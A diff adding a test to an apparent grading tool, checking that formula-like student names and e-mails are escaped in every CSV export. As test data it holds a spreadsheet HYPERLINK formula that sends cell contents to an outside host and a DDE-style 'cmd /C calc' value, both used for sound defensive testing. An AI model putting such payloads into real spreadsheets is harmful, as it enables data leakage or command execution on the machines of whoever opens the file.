@@ -282,3 +282,19 @@ def test_export_warnings_without_roster_and_for_internal_errors(tmp_path, result
     run = GradeRun(tmp_path / "out", exports=[("canvas", tmp_path / "c.csv")], assignment_name="과제")
     text = console_output(lambda console: write_exports(run, console, results, True))
     assert "쓰지 않았습니다" in text and not (tmp_path / "c.csv").exists()
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_every_csv_written(tmp_path, results):
+    """Names and e-mails come from students' own profiles (Classroom 50 writes such a cell as ``'=...`` and the
+    roster reads it back): every CSV the grader writes keeps it text, and the honest student's row is as before."""
+    formula = '=HYPERLINK("http://example.org/?"&C3,"성적")'
+    roster = Roster((Student("kim-minji", "20231234", TRICKY_NAME, "minji@example.ac.kr", "1분반"),
+                     Student("stranger", "20230009", formula, "@cmd|' /C calc'!A0", "+1")))
+    write_csv(results, tmp_path / "grades.csv", roster)
+    rows = {r["submission"]: r for r in csv.DictReader(open(tmp_path / "grades.csv", encoding="utf-8", newline=""))}
+    assert rows["subs/stranger"]["name"] == "'" + formula and rows["subs/Kim-Minji"]["name"] == TRICKY_NAME
+    for kind in ("canvas", "moodle"):
+        write_export(kind, results, tmp_path / f"{kind}.csv", roster, "과제 4")
+        cells = [cell for row in read_csv(tmp_path / f"{kind}.csv") for cell in row]
+        assert "'" + formula in cells and "'@cmd|' /C calc'!A0" in cells and TRICKY_NAME in cells, kind
+        assert not any(cell and cell[0] in "=+-@" for cell in cells), kind
